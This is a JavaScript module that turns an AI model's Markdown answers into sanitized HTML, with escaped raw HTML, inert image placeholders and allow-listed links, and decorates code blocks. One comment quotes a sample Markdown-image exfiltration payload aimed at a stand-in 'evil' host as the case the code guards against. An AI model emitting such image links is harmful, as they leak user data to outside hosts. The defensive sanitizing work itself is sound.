// Model output (Markdown) -> sanitized HTML, and code-block decoration.
//
// Two layers, so one mistake is not enough:
//  1. marked renders Markdown with raw HTML *escaped* (shown as text, never parsed) and images
//     turned into inert placeholder text;
//  2. DOMPurify (own instance, strict allow-list) cleans whatever marked produced: no scripts,
//     event handlers, style, iframes, forms or images survive; links keep only http:, https:,
//     mailto: hrefs and always open in a new tab with rel="noopener noreferrer".
//
// Needs a DOM (the browser, or jsdom in tests). highlight.js is never imported here statically:
// `highlightCodeBlocks` loads it on demand.

import { Marked } from "marked";
import createDOMPurify from "dompurify";

const ALLOWED_TAGS = [
  "a", "b", "blockquote", "br", "code", "del", "em", "h1", "h2", "h3", "h4", "h5", "h6", "hr",
  "i", "img", "kbd", "li", "ol", "p", "pre", "s", "span", "strong", "sub", "sup", "table",
  "tbody", "td", "tfoot", "th", "thead", "tr", "ul",
];
// `img` is let in only to be replaced by a placeholder in a hook (it never keeps a src).
const ALLOWED_ATTR = ["href", "title", "class", "start", "align", "alt"];
const SAFE_PROTOCOLS = new Set(["http:", "https:", "mailto:"]);
const SAFE_CLASS = /^(?:language-[\w+#.-]{1,40}|md-[a-z-]{1,40})$/;

const PURIFY_CONFIG = {
  ALLOWED_TAGS,
  ALLOWED_ATTR,
  ALLOW_DATA_ATTR: false,
  ALLOW_ARIA_ATTR: false,
  ALLOWED_URI_REGEXP: /^(?:https?|mailto):/i,
  KEEP_CONTENT: true,
};

let purify = null;

function getPurify() {
  if (purify) return purify;
  purify = createDOMPurify(globalThis.window);
  purify.addHook("afterSanitizeAttributes", (node) => {
    if (node.nodeType !== 1) return;
    const tag = node.nodeName.toLowerCase();
    if (node.hasAttribute("class")) {
      const kept = node.getAttribute("class").split(/\s+/).filter((c) => SAFE_CLASS.test(c));
      if (kept.length) node.setAttribute("class", kept.join(" "));
      else node.removeAttribute("class");
    }
    if (tag === "a") {
      const href = node.getAttribute("href");
      if (href !== null && !isSafeHref(href)) node.removeAttribute("href");
      if (node.hasAttribute("href")) {
        node.setAttribute("target", "_blank");
        node.setAttribute("rel", "noopener noreferrer");
      } else {
        node.removeAttribute("target");
        node.removeAttribute("rel");
      }
    } else if (tag === "img") {
      node.replaceWith(imagePlaceholder(node.ownerDocument, node.getAttribute("alt") || ""));
    }
  });
  return purify;
}

/** True for absolute http:, https: and mailto: URLs only. */
export function isSafeHref(href) {
  let url;
  try {
    url = new URL(String(href).trim());
  } catch {
    return false; // relative, empty or malformed
  }
  return SAFE_PROTOCOLS.has(url.protocol);
}

function imagePlaceholder(doc, alt) {
  const span = doc.createElement("span");
  span.setAttribute("class", "md-image");
  span.setAttribute("title", "Images from answers are not loaded");
  span.textContent = alt ? `[image: ${alt}]` : "[image]";
  return span;
}

const ESCAPES = { "&": "&amp;", "<": "&lt;", ">": "&gt;", '"': "&quot;", "'": "&#39;" };
export function escapeHtml(text) {
  return String(text).replace(/[&<>"']/g, (c) => ESCAPES[c]);
}

const marked = new Marked({
  gfm: true,
  breaks: false,
  renderer: {
    // Raw HTML in the model's text is shown as text, never interpreted.
    html({ text, block }) {
      return block ? `<p>${escapeHtml(text.trim())}</p>\n` : escapeHtml(text);
    },
    // Images are never loaded: `![](https://evil/?q=secret)` must not send a request.
    image({ text }) {
      const alt = text ? `[image: ${escapeHtml(text)}]` : "[image]";
      return `<span class="md-image" title="Images from answers are not loaded">${alt}</span>`;
    },
    checkbox({ checked }) {
      return checked ? "☑ " : "☐ ";
    },
  },
});

/** Sanitize an HTML string with the allow-list (the second layer; exported for tests). */
export function sanitizeHtml(html) {
  return getPurify().sanitize(String(html), PURIFY_CONFIG);
}

/** Markdown from the model -> safe HTML string. */
export function renderMarkdown(markdown) {
  const html = marked.parse(String(markdown ?? ""), { async: false });
  return sanitizeHtml(html);
}

const COPY_ICON =
  '<svg aria-hidden="true" viewBox="0 0 24 24" width="16" height="16"><path fill="currentColor" d="M16 1H6a2 2 0 0 0-2 2v12h2V3h10V1zm3 4H10a2 2 0 0 0-2 2v14a2 2 0 0 0 2 2h9a2 2 0 0 0 2-2V7a2 2 0 0 0-2-2zm0 16h-9V7h9v14z"/></svg>';

/** The language named by a `language-xxx` class, or "". */
export function codeLanguage(codeEl) {
  const match = /(?:^|\s)language-([\w+#.-]+)/.exec(codeEl?.getAttribute("class") || "");
  return match ? match[1].toLowerCase() : "";
}

/**
 * Wrap each <pre> under root in a block with a language label and a Copy button
 * (`data-action="copy-code"`; the app handles clicks by delegation). Idempotent.
 */
export function decorateCodeBlocks(root) {
  const doc = root.ownerDocument;
  for (const pre of root.querySelectorAll("pre")) {
    if (pre.parentElement?.classList.contains("code-block")) continue;
    const wrapper = doc.createElement("div");
    wrapper.className = "code-block";
    const bar = doc.createElement("div");
    bar.className = "code-bar";
    const label = doc.createElement("span");
    label.className = "code-lang";
    label.textContent = codeLanguage(pre.querySelector("code")) || "text";
    const button = doc.createElement("button");
    button.type = "button";
    button.className = "btn-ghost btn-small";
    button.dataset.action = "copy-code";
    button.dataset.testid = "copy-code";
    button.setAttribute("aria-label", "Copy code");
    button.innerHTML = `${COPY_ICON}<span class="btn-label">Copy</span>`;
    bar.append(label, button);
    pre.replaceWith(wrapper);
    wrapper.append(bar, pre);
    pre.tabIndex = 0; // scrollable region reachable by keyboard
  }
}

let highlighterPromise = null;

/** Lazily load highlight.js (its own chunk) and highlight the code blocks under root. */
export async function highlightCodeBlocks(root) {
  const blocks = [...root.querySelectorAll("pre code:not([data-highlighted])")];
  if (blocks.length === 0) return 0;
  highlighterPromise ??= import("./highlighter.js").catch((error) => {
    highlighterPromise = null; // e.g. offline after a deploy: try again next time
    throw error;
  });
  const { highlightElement } = await highlighterPromise;
  for (const code of blocks) highlightElement(code, codeLanguage(code));
  return blocks.length;
}
